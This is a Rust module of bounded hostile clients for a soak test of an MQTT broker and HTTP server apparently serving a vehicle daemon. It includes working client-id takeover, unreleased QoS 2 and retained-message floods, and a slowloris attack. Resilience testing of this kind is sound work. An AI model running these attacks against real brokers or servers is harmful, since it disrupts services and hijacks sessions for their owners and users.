//! Hostile MQTT clients for the soak, each bounded in count and time: one that presents
//! chassisd's client id again and again, one that sends QoS 2 messages it never releases,
//! and one that retains large messages on new topics. Raw sockets: no client library does
//! what they do.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::broker::wire;

/// Unreleased QoS 2 messages one session sends before it waits to be cut.
const QOS2_PER_SESSION: u16 = 40;
/// Their payload, bytes.
const QOS2_PAYLOAD: usize = 10_000;
/// Retained messages one flood sends at most, and their payload: 64 MB at most in all,
/// removed again afterwards, so an external test broker is left as it was.
const RETAINED_MAX: usize = 64;
const RETAINED_PAYLOAD: usize = 1 << 20;
/// How long one attempt may take before the attacker moves on.
const ATTEMPT: Duration = Duration::from_secs(2);

/// What an attack saw, for the soak's figures.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Serialize)]
pub struct AttackFigures {
    /// Sessions (or connection attempts) made.
    pub attempts: u64,
    /// Of those, refused with a CONNACK or cut by the broker.
    pub refused_or_cut: u64,
}

/// Connects `id` to `host:port` in MQTT 3.1.1 and returns the stream with the CONNACK's
/// code (`None`: closed without one).
async fn connect(host: &str, port: u16, id: &str) -> std::io::Result<(TcpStream, Option<u8>)> {
    let mut s = TcpStream::connect((host, port)).await?;
    s.set_nodelay(true)?;
    s.write_all(&wire::plain_connect(id, 60)).await?;
    let mut ack = [0u8; 4];
    match s.read_exact(&mut ack).await {
        Ok(_) if ack[0] == 0x20 => Ok((s, Some(ack[3]))),
        _ => Ok((s, None)),
    }
}

/// Whether the broker closes `s` within `wait` (reading and dropping what it sends).
async fn closed_within(s: &mut TcpStream, wait: Duration) -> bool {
    let mut sink = [0u8; 4096];
    tokio::time::timeout(wait, async {
        loop {
            match s.read(&mut sink).await {
                Ok(0) | Err(_) => return true,
                Ok(_) => {}
            }
        }
    })
    .await
    .unwrap_or(false)
}

/// Presents `id` (chassisd's configured id, all an outsider can know) every 50 ms for
/// `hold`, each connection kept a moment as a takeover would.
pub async fn take_over(host: &str, port: u16, id: &str, hold: Duration) -> AttackFigures {
    let until = Instant::now() + hold;
    let mut figures = AttackFigures::default();
    while Instant::now() < until {
        figures.attempts += 1;
        match tokio::time::timeout(ATTEMPT, connect(host, port, id)).await {
            Ok(Ok((_s, Some(0)))) => tokio::time::sleep(Duration::from_millis(50)).await,
            _ => figures.refused_or_cut += 1,
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    figures
}

/// Sessions of [`QOS2_PER_SESSION`] QoS 2 messages never released, for `hold`.
pub async fn unreleased_qos2(host: &str, port: u16, hold: Duration) -> AttackFigures {
    let until = Instant::now() + hold;
    let mut figures = AttackFigures::default();
    let payload = vec![b'q'; QOS2_PAYLOAD];
    while Instant::now() < until {
        let id = format!("soak-qos2-{}-{}", std::process::id(), figures.attempts);
        figures.attempts += 1;
        let Ok(Ok((mut s, Some(0)))) =
            tokio::time::timeout(ATTEMPT, connect(host, port, &id)).await
        else {
            figures.refused_or_cut += 1;
            continue;
        };
        for pid in 1..=QOS2_PER_SESSION {
            let mut body = Vec::with_capacity(QOS2_PAYLOAD + 16);
            body.extend_from_slice(&10u16.to_be_bytes());
            body.extend_from_slice(b"soak/qos2/");
            body.extend_from_slice(&pid.to_be_bytes());
            body.extend_from_slice(&payload);
            if s.write_all(&wire::packet(0x34, &body)).await.is_err() {
                break;
            }
        }
        let wait = until.saturating_duration_since(Instant::now()).min(ATTEMPT);
        if closed_within(&mut s, wait).await {
            figures.refused_or_cut += 1;
        }
    }
    figures
}

/// Retained messages of [`RETAINED_PAYLOAD`] bytes on new topics, at most [`RETAINED_MAX`],
/// for `hold`; then every one removed (an empty retained payload).
pub async fn retained_flood(host: &str, port: u16, hold: Duration) -> AttackFigures {
    let until = Instant::now() + hold;
    let mut figures = AttackFigures::default();
    let payload = vec![b'r'; RETAINED_PAYLOAD];
    let topic = |i: usize| format!("soak/retained/{}/{i}", std::process::id());
    let mut sent = 0;
    while Instant::now() < until && sent < RETAINED_MAX {
        let id = format!("soak-retain-{}-{}", std::process::id(), figures.attempts);
        figures.attempts += 1;
        let Ok(Ok((mut s, Some(0)))) =
            tokio::time::timeout(ATTEMPT, connect(host, port, &id)).await
        else {
            figures.refused_or_cut += 1;
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        while Instant::now() < until && sent < RETAINED_MAX {
            let name = topic(sent);
            let mut body = (name.len() as u16).to_be_bytes().to_vec();
            body.extend_from_slice(name.as_bytes());
            body.extend_from_slice(&payload);
            if s.write_all(&wire::packet(0x31, &body)).await.is_err() {
                figures.refused_or_cut += 1;
                break;
            }
            sent += 1;
            if closed_within(&mut s, Duration::from_millis(20)).await {
                figures.refused_or_cut += 1;
                break;
            }
        }
    }
    // Removed again: an empty retained payload on each topic sent.
    if let Ok(Ok((mut s, Some(0)))) = tokio::time::timeout(
        ATTEMPT,
        connect(host, port, &format!("soak-unretain-{}", std::process::id())),
    )
    .await
    {
        for i in 0..sent {
            let name = topic(i);
            let mut body = (name.len() as u16).to_be_bytes().to_vec();
            body.extend_from_slice(name.as_bytes());
            if s.write_all(&wire::packet(0x31, &body)).await.is_err() {
                break;
            }
        }
        let _ = s.write_all(&wire::DISCONNECT).await;
    }
    figures
}

/// Connections a slowloris opens at most, and how fast.
const SLOWLORIS_MAX: usize = 1000;
const SLOWLORIS_EVERY: Duration = Duration::from_millis(5);

/// Connections to the HTTP server at `host:port` that send half a request's head and then
/// nothing, opened for `hold` (at most [`SLOWLORIS_MAX`]); how many the server had closed
/// by the end.
pub async fn slowloris(host: &str, port: u16, hold: Duration) -> AttackFigures {
    let until = Instant::now() + hold;
    let mut open = Vec::new();
    let mut figures = AttackFigures::default();
    while Instant::now() < until && open.len() < SLOWLORIS_MAX {
        figures.attempts += 1;
        match TcpStream::connect((host, port)).await {
            Ok(mut s) => {
                let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: vehicle\r\n").await;
                open.push(s);
            }
            Err(_) => figures.refused_or_cut += 1,
        }
        tokio::time::sleep(SLOWLORIS_EVERY).await;
    }
    tokio::time::sleep_until(until.into()).await;
    for mut s in open {
        if closed_within(&mut s, Duration::from_millis(1)).await {
            figures.refused_or_cut += 1;
        }
    }
    figures
}
